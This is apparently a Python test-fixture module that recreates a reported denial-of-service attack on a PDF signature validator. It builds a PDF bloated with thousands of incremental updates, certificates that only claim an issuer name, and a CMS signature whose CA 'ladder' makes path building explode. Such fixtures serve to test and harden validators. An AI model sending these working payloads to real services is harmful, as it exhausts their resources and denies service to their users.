"""Documents and certificates made to cost a validator: what the attack of issue #20 sent.

- :func:`many_updates`: thousands of tiny incremental updates after a signature (the
  difference analysis reviews each one; 4,000 of them make a 480 KB file);
- :func:`named_cert`: certificates that only claim an issuer name (path building matches
  names before any signature is checked), optionally with a caIssuers URL;
- :func:`ladder_cms`: a signature carrying two CA certificates for each of many names, so
  the candidate paths multiply with every level.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta

from asn1crypto import keys, x509
from cryptography import x509 as cx509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID
from pyhanko.sign import signers
from pyhanko_certvalidator.registry import SimpleCertificateStore
from validation_corpus import TEXT


def many_updates(pdf: bytes, count: int) -> bytes:
    """``count`` small incremental updates after the last one, each rewriting the document's
    Info dictionary (about 120 bytes each: 4,000 of them make a 480 KB file)."""
    out = bytearray(pdf)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    info = int(re.findall(rb"/Info (\d+) 0 R", pdf)[-1])
    for i in range(count):
        if not out.endswith(b"\n"):
            out += b"\n"
        obj_at = len(out)
        out += b"%d 0 obj<</P(%d)>>endobj\n" % (info, i)
        xref_at = len(out)
        out += b"xref\n%d 1\n%010d 00000 n \n" % (info, obj_at)
        out += b"trailer<</Size %d/Root %s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref_at)
        prev = xref_at
    return bytes(out)


def named_cert(key: ec.EllipticCurvePrivateKey, subject: str, issuer: str, *, ca: bool = True,
               ca_issuers: str | None = None) -> x509.Certificate:
    """A certificate that only claims its issuer (signed with ``key``, whoever the issuer is):
    enough for path building, which matches names before it checks any signature."""
    now = datetime.now(UTC)
    name = lambda cn: cx509.Name([cx509.NameAttribute(NameOID.COMMON_NAME, cn)])  # noqa: E731
    builder = (cx509.CertificateBuilder().subject_name(name(subject)).issuer_name(name(issuer))
               .public_key(key.public_key()).serial_number(cx509.random_serial_number())
               .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=30))
               .add_extension(cx509.BasicConstraints(ca=ca, path_length=None), critical=True))
    if ca_issuers:
        builder = builder.add_extension(cx509.AuthorityInformationAccess([cx509.AccessDescription(
            AuthorityInformationAccessOID.CA_ISSUERS, cx509.UniformResourceIdentifier(ca_issuers))]), critical=False)
    return x509.Certificate.load(builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER))


async def ladder_cms(levels: int, width: int = 2) -> bytes:
    """A CMS signature carrying ``width`` CA certificates for each of ``levels`` names, each naming
    the next as its issuer, the last one unknown: width**levels candidate paths, none to an anchor."""
    key = ec.generate_private_key(ec.SECP256R1())
    ladder = [named_cert(key, f"ladder {n}", f"ladder {n + 1}") for n in range(levels) for _ in range(width)]
    leaf = named_cert(key, "ladder signer", "ladder 0", ca=False)
    pkcs8 = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                              serialization.NoEncryption())
    signer = signers.SimpleSigner(signing_cert=leaf, signing_key=keys.PrivateKeyInfo.load(pkcs8),
                                  cert_registry=SimpleCertificateStore.from_certs(ladder))
    return (await signer.async_sign_general_data(TEXT, "sha256", detached=False)).dump()
